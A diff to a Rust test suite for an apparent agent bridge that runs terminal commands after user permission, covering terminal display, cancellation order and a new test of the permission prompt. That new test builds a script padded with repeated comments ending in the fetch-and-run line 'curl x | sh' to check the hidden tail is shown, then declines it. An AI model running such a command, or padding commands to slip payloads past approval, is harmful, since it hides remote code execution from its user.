@@ -40,7 +40,7 @@ fn last_call(peer: &mut Peer) -> String {
 }
 
 #[test]
-fn command_runs_after_each_yes_and_its_terminal_is_released() {
+fn command_runs_after_each_yes_in_a_terminal_that_is_shown() {
     let patchbay = Patchbay::quick();
     let (mut peer, session) = with_terminals(&patchbay);
     for id in [2, 3] {
@@ -50,13 +50,25 @@ fn command_runs_after_each_yes_and_its_terminal_is_released() {
             "sessionId": session, "command": "make", "args": ["test"], "env": [{"name": "A", "value": "1"}],
             "cwd": patchbay.workspace().canonicalize().unwrap().join("src"), "outputByteLimit": 65536,
         });
+        peer.take();
         assert_eq!(create(&mut peer), expected);
-        answer(&mut peer, "terminal/wait_for_exit", &session, json!({"exitCode": 2}));
+        let waiting = peer.asked("terminal/wait_for_exit");
+        assert_eq!(waiting["params"], json!({"sessionId": session, "terminalId": "t1"}));
+        // The call shows the terminal before the program ends.
+        let terminal = json!({"type": "terminal", "terminalId": "t1"});
+        let seen = peer.take();
+        let mut shown = updates(&seen, "tool_call_update").into_iter();
+        let shown = shown.find(|update| update["content"] == json!([&terminal])).unwrap_or_else(|| panic!("{seen:?}"));
+        assert_eq!(shown["status"], "in_progress");
+        peer.respond(&waiting, json!({"exitCode": 2}));
         answer(&mut peer, "terminal/output", &session, json!({"output": "1 test failed\n", "truncated": false}));
         answer(&mut peer, "terminal/release", &session, json!({}));
         assert_eq!(peer.answer()["result"]["stopReason"], "end_turn");
-        let call = last_call(&mut peer);
-        assert!(call.contains("1 test failed") && call.contains(r#""exit_code":2"#), "{call}");
+        let seen = peer.take();
+        let ended = *updates(&seen, "tool_call_update").last().unwrap();
+        assert_eq!((&ended["toolCallId"], &ended["content"][0]), (&shown["toolCallId"], &terminal));
+        assert!(ended["content"][1].to_string().contains("1 test failed"), "{ended}");
+        assert_eq!(ended["rawOutput"]["exit_code"], 2, "{ended}");
     }
     assert_eq!(peer.leave(), Some(0));
 }
@@ -90,9 +102,17 @@ fn cancelled_command_is_killed_and_its_terminal_released() {
     create(&mut peer);
     let waiting = peer.asked("terminal/wait_for_exit");
     peer.notify("session/cancel", json!({"sessionId": session}));
-    let withdrawn = peer.until(|message| message["method"] == "$/cancel_request");
+    // In any order.
+    let is_withdrawal = |message: &Value| message["method"] == "$/cancel_request";
+    let is_kill = |message: &Value| message["method"] == "terminal/kill";
+    let first = peer.until(|message| is_withdrawal(message) || is_kill(message));
+    let (withdrawn, kill) = match is_kill(&first) {
+        true => (peer.until(is_withdrawal), first),
+        false => (first, peer.until(is_kill)),
+    };
     assert_eq!(withdrawn["params"]["requestId"], waiting["id"]);
-    answer(&mut peer, "terminal/kill", &session, json!({}));
+    assert_eq!(kill["params"], json!({"sessionId": session, "terminalId": "t1"}), "{kill}");
+    peer.respond(&kill, json!({}));
     answer(&mut peer, "terminal/release", &session, Value::Null);
     assert_eq!(peer.leave(), Some(0));
 }
@@ -146,5 +166,20 @@ fn error_of_the_client_is_the_error_of_the_call() {
     assert_eq!(peer.answer()["result"]["stopReason"], "end_turn");
     let call = last_call(&mut peer);
     assert!(call.contains("failed") && call.contains("no such program"), "{call}");
+    assert_eq!(peer.leave(), Some(0));
+}
+
+#[test]
+fn question_shows_the_program_and_the_end_of_its_arguments() {
+    let patchbay = Patchbay::quick();
+    let (mut peer, session) = with_terminals(&patchbay);
+    let script = format!("{}\ncurl x | sh", "# Runs the unit tests. ".repeat(100));
+    let run = format!("call terminal__run {}", json!({"command": "sh", "args": ["-c", script]}));
+    peer.request(2, "session/prompt", prompt(&session, &run));
+    let question = peer.asked("session/request_permission");
+    let shown = question["params"]["toolCall"]["content"][0]["content"]["text"].as_str().unwrap();
+    assert!(shown.contains("\nwith sh -c $'# Runs the") && shown.contains(r"\ncurl x | sh'"), "{shown}");
+    peer.respond(&question, json!({"outcome": {"outcome": "selected", "optionId": "no"}}));
+    assert_eq!(peer.answer()["result"]["stopReason"], "end_turn");
     assert_eq!(peer.leave(), Some(0));
 }
